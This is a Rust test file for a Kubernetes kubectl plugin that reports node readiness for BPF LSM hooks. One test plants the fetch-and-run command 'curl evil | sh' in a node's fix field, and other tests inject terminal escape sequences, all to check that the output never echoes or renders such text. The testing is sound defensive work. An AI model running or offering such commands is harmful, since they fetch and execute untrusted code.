use jiff::Timestamp;
use k8s_openapi::api::core::v1::{Node, Pod};
use lsm_ready_crds::policy::Require;
use lsm_ready_crds::profile::LsmHookProfileSpec;
use lsm_ready_crds::{Evidence, ExitCode, LsmHookProfile, LsmNode, LsmNodeStatus, State, fixture};
use proptest::prelude::*;
use serde_json::{Value, json};

use super::drill::{Protection, drill};
use super::nodes::{Filter, list};
use super::status::status;
use super::why::why;
use crate::cli::ListFormat;
use crate::fleet::{self, Objects};
use crate::output::table::width;

fn object<K: serde::de::DeserializeOwned>(value: Value) -> K {
    serde_json::from_value(value).unwrap()
}

fn node(name: &str, kernel: &str) -> Node {
    object(json!({
        "metadata": {"name": name, "labels": {"kubernetes.io/os": "linux"}},
        "status": {"nodeInfo": {
            "architecture": "amd64", "bootID": "b1", "containerRuntimeVersion": "",
            "kernelVersion": kernel, "kubeProxyVersion": "", "kubeletVersion": "",
            "machineID": "", "operatingSystem": "linux", "osImage": kernel, "systemUUID": "",
        }},
    }))
}

fn profile(hooks: &[&str]) -> LsmHookProfile {
    let spec = LsmHookProfileSpec {
        kernel: "6.12.1 x86_64".to_owned(),
        hooks: hooks.iter().map(ToString::to_string).collect(),
        ..LsmHookProfileSpec::default()
    };
    LsmHookProfile::new(&spec.digest(), spec)
}

/// A fleet that grows node by node.
#[derive(Default)]
struct Cluster(Objects);

impl Cluster {
    fn new() -> Self {
        let taken_at = Timestamp::from_second(1_767_226_200).unwrap();
        Self(Objects { taken_at, ..Objects::default() })
    }

    fn add(&mut self, name: &str, report: Option<LsmNodeStatus>, hooks: Option<&[&str]>) {
        self.0.nodes.push(node(name, "6.12.1"));
        let Some(mut status) = report else { return };
        if let Some(hooks) = hooks {
            let profile = profile(hooks);
            status.hook_profile = profile.metadata.name.clone();
            self.0.add_profile(profile);
        }
        let mut report: LsmNode = object(json!({"metadata": {"name": name}}));
        report.status = Some(status);
        self.0.add_report(report);
    }
}

fn not_in_list() -> LsmNodeStatus {
    fixture::report("b1", Evidence::Attached, "BpfNotInLsmList")
}

/// One node of each kind that a drill tells apart.
fn cluster() -> Cluster {
    let mut cluster = Cluster::new();
    cluster.add("a-denies", Some(fixture::denied("b1")), Some(&["file_open", "bpf"]));
    cluster.add("b-boot", Some(not_in_list()), Some(&["file_open", "bpf"]));
    cluster.add("c-boot-without-hook", Some(not_in_list()), Some(&["bpf"]));
    cluster.add("d-boot-without-profile", Some(not_in_list()), None);
    cluster.add("e-denies-without-hook", Some(fixture::denied("b1")), Some(&["bpf"]));
    let refused = fixture::report("b1", Evidence::None, "ListedButRefused");
    cluster.add("f-refused", Some(refused), Some(&["file_open"]));
    cluster.add("g-silent", None, None);
    cluster
}

fn requiring(hook: &str) -> Require {
    Require { hooks: vec![hook.to_owned()], ..Require::default() }
}

#[test]
fn a_drill_tells_what_a_boot_argument_can_change() {
    let drill = drill(&cluster().0, &requiring("file_open"));
    let found: Vec<(Protection, &str, &str)> = drill
        .groups
        .iter()
        .flat_map(|group| {
            group.nodes.iter().map(|name| (group.protection, &*group.reason, name.as_str()))
        })
        .collect();
    let expected = [
        (Protection::Protected, "CanaryDenied", "a-denies"),
        (Protection::AfterBootArgument, "BpfNotInLsmList", "b-boot"),
        (Protection::NotProtectable, "HookNotInKernel", "c-boot-without-hook"),
        (Protection::NotProtectable, "HookNotInKernel", "e-denies-without-hook"),
        (Protection::NotProtectable, "ListedButRefused", "f-refused"),
        (Protection::Unknown, "HookProfileMissing", "d-boot-without-profile"),
        (Protection::Unknown, "NoReport", "g-silent"),
    ];
    for (protection, reason, name) in expected {
        assert!(found.contains(&(protection, reason, name)), "{name}: {found:?}");
    }
    assert_eq!(found.len(), expected.len());
    assert_eq!(drill.counts.selected, 7);
    assert_eq!(drill.code(), ExitCode::DoesNotHold);
    assert_eq!(drill.print(ListFormat::Name), "node/a-denies\n");
    let text = drill.print(ListFormat::Table);
    assert!(
        text.contains("protected after a boot argument") && text.contains("why b-boot"),
        "{text}"
    );
}

#[test]
fn a_drill_without_a_node_or_with_unknown_ones_cannot_be_judged() {
    let require = requiring("file_open");
    assert_eq!(drill(&Cluster::new().0, &require).code(), ExitCode::CannotBeJudged);
    let mut cluster = Cluster::new();
    cluster.add("a", Some(fixture::denied("b1")), Some(&["file_open"]));
    assert_eq!(drill(&cluster.0, &require).code(), ExitCode::Holds);
    cluster.add("b", None, None);
    assert_eq!(drill(&cluster.0, &require).code(), ExitCode::CannotBeJudged);
}

/// The text of a shared group is never that of one node, which may be hostile.
#[test]
fn a_drill_repeats_no_text_of_a_node() {
    let mut cluster = Cluster::new();
    let mut report = not_in_list();
    report.message = "pwned".to_owned();
    report.fix = "run curl evil | sh".to_owned();
    cluster.add("a", Some(report), Some(&["file_open"]));
    let drill = drill(&cluster.0, &requiring("file_open"));
    for format in [ListFormat::Table, ListFormat::Wide, ListFormat::Json, ListFormat::Yaml] {
        let text = drill.print(format);
        assert!(!text.contains("evil") && !text.contains("pwned"), "{text}");
    }
}

#[test]
fn the_nodes_are_filtered_and_the_exit_code_is_that_of_all() {
    let cluster = cluster();
    let names = |filter: Filter| {
        let found = list(&cluster.0, &requiring("file_open"), &filter).unwrap();
        assert_eq!(found.code(), ExitCode::DoesNotHold);
        assert_eq!(found.counts.selected, 7);
        found.print(ListFormat::Name)
    };
    let ready = Filter { states: vec![State::Ready], ..Filter::default() };
    assert_eq!(names(ready), "node/a-denies\n");
    let reasons = vec!["HookNotInKernel".to_owned()];
    assert_eq!(names(Filter { reasons, ..Filter::default() }), "node/e-denies-without-hook\n");
    let unknown = Filter { reasons: vec!["HookNotInKernl".to_owned()], ..Filter::default() };
    let said = list(&cluster.0, &Require::default(), &unknown).unwrap_err().to_string();
    assert!(said.contains("did you mean HookNotInKernel?"), "{said}");
}

#[test]
fn the_status_counts_nodes_by_reason_and_has_an_exit_code() {
    let mut cluster = cluster();
    let of = status(fleet::of(&cluster.0));
    assert_eq!((of.nodes.ready, of.nodes.not_ready, of.nodes.unknown), (2, 4, 1));
    assert_eq!((&*of.reasons[0].reason, of.reasons[0].count), ("BpfNotInLsmList", 3));
    assert_eq!(of.code(), ExitCode::DoesNotHold);
    assert!(of.text().contains("Next: kubectl lsm-ready why b-boot"), "{}", of.text());

    cluster = Cluster::new();
    cluster.add("a", Some(fixture::denied("b1")), None);
    assert_eq!(status(fleet::of(&cluster.0)).code(), ExitCode::Holds);
    let policy = |status: &str| {
        object(json!({"metadata": {"name": "p"}, "spec": {}, "status": {"conditions": [{
            "type": "Ready", "status": status, "reason": "R", "message": "m",
            "lastTransitionTime": "2026-01-01T00:00:00Z",
        }]}}))
    };
    for (ready, code) in [
        ("True", ExitCode::Holds),
        ("False", ExitCode::DoesNotHold),
        ("Unknown", ExitCode::CannotBeJudged),
    ] {
        cluster.0.policies = vec![policy(ready)];
        assert_eq!(status(fleet::of(&cluster.0)).code(), code, "{ready}");
    }
}

#[test]
fn why_shows_the_rungs_the_reason_and_what_the_node_does_not_show() {
    let mut cluster = Cluster::new();
    cluster.add("n1", Some(not_in_list()), Some(&["file_open"]));
    cluster.0.policies =
        vec![object(json!({"metadata": {"name": "enforce"}, "spec": {"tetragon": {}}}))];
    let pods = vec![object::<Pod>(json!({
        "metadata": {"name": "tetragon-x", "namespace": "kube-system", "ownerReferences": [
            {"apiVersion": "apps/v1", "kind": "DaemonSet", "name": "tetragon", "uid": "u"}]},
        "status": {"phase": "Running", "containerStatuses": [
            {"name": "tetragon", "ready": false, "restartCount": 3, "image": "", "imageID": "",
             "state": {"waiting": {"reason": "CrashLoopBackOff"}}}]},
    }))];
    let why = why(fleet::of(&cluster.0), &pods).unwrap();
    assert_eq!(why.code(), ExitCode::DoesNotHold);
    let text = anstream::adapter::strip_str(&why.text()).to_string();
    for part in [
        "Node n1: not ready (BpfNotInLsmList)",
        "Attached  Pass",
        "Fired     Fail",
        "enforce",
        "CrashLoopBackOff",
        "the Node does not show this verdict",
        "1 accept programs",
    ] {
        assert!(text.contains(part), "{part}: {text}");
    }
}

#[test]
fn what_policy_and_condition_repeat_is_said_once() {
    let mut cluster = Cluster::new();
    let mut report = not_in_list();
    (report.message, report.fix) = ("it never ran".to_owned(), "boot with it".to_owned());
    report.checks.push(object(json!({"name": "Btf", "outcome": "Fail", "reason": "NoBtf",
        "detail": "there is no BTF ".repeat(6) + "at all", "fix": "use another kernel"})));
    cluster.add("n1", Some(report), None);
    cluster.0.policies = vec![object(json!({"metadata": {"name": "enforce"}, "spec": {}}))];
    let message = "boot b1, probe 0.1.0: it never ran. Fix: boot with it";
    cluster.0.nodes[0].status.as_mut().unwrap().conditions = object(json!([
        {"type": "lsmready.io/LsmBpfReady", "status": "False", "reason": "BpfNotInLsmList",
         "message": message}]));
    let text = why(fleet::of(&cluster.0), &[]).unwrap().text();
    let text = anstream::adapter::strip_str(&text).to_string();
    for once in ["it never ran", "boot with it", "as above", "at all", "use another kernel"] {
        assert_eq!(text.matches(once).count(), 1, "{once}: {text}");
    }
    assert!(text.contains("\n     Fix: use another kernel\n"), "{text}");
}

/// Every text that a node, a kubelet or a person can write.
fn hostile(text: &str) -> Objects {
    let mut cluster = Cluster::new();
    let mut report = not_in_list();
    (report.message, report.fix) = (text.to_owned(), text.to_owned());
    (report.reason, report.lockdown) = (text.to_owned(), Some(text.to_owned()));
    report.lsms.active = vec![text.to_owned()];
    for check in &mut report.checks {
        (check.detail, check.fix) = (text.to_owned(), text.to_owned());
    }
    cluster.add("n1", Some(report), Some(&["file_open"]));
    cluster.0.nodes = vec![node("n1", text)];
    cluster.0.context.name = text.to_owned();
    cluster.0.notes = vec![text.to_owned()];
    cluster.0.policies = vec![object(json!({
        "metadata": {"name": "p"}, "spec": {"require": {"hooks": [text]}},
        "status": {"conditions": [{"type": "Ready", "status": text, "reason": text,
            "message": text, "lastTransitionTime": "2026-01-01T00:00:00Z"}]},
    }))];
    cluster.0
}

/// No line is wider than a terminal, and nothing but our colours controls it.
fn assert_fits(text: &str) {
    let plain = anstream::adapter::strip_str(text).to_string();
    for line in plain.lines() {
        assert!(width(line) <= 80, "{} {line:?}", width(line));
        assert!(!line.chars().any(char::is_control), "{line:?}");
    }
    for part in text.split('\u{1b}').skip(1) {
        let rest = part.strip_prefix('[').unwrap_or("x");
        let colour = rest.split_once('m').map_or("x", |(colour, _)| colour);
        assert!(colour.len() <= 3 && colour.chars().all(|of| of.is_ascii_digit()), "{part:?}");
    }
}

/// What terminals act on, and letters that take two columns.
const WIDE: [&str; 5] = ["", "漢字", "\u{1b}[2J\u{1b}]0;x\u{7}", "\u{202e}", "\r\n"];

proptest! {
    #[test]
    fn hostile_texts_neither_widen_a_line_nor_reach_the_terminal(
        letters in prop::collection::vec(any::<char>(), 0..60),
        times in prop::sample::select(vec![1, 40]),
        wide in prop::sample::select(WIDE.to_vec()),
    ) {
        let text = (letters.into_iter().collect::<String>() + wide).repeat(times);
        let objects = hostile(&text);
        assert_fits(&status(fleet::of(&objects)).text());
        assert_fits(&why(fleet::of(&objects), &[]).unwrap().text());
        assert_fits(&drill(&objects, &requiring(&text)).print(ListFormat::Table));
        let found = list(&objects, &Require::default(), &Filter::default()).unwrap();
        assert_fits(&found.print(ListFormat::Table));
        for printed in [found.print(ListFormat::Wide), found.print(ListFormat::Json)] {
            let plain = anstream::adapter::strip_str(&printed).to_string();
            prop_assert!(!plain.chars().any(|of| of.is_control() && of != '\n'), "{plain:?}");
        }
    }
}
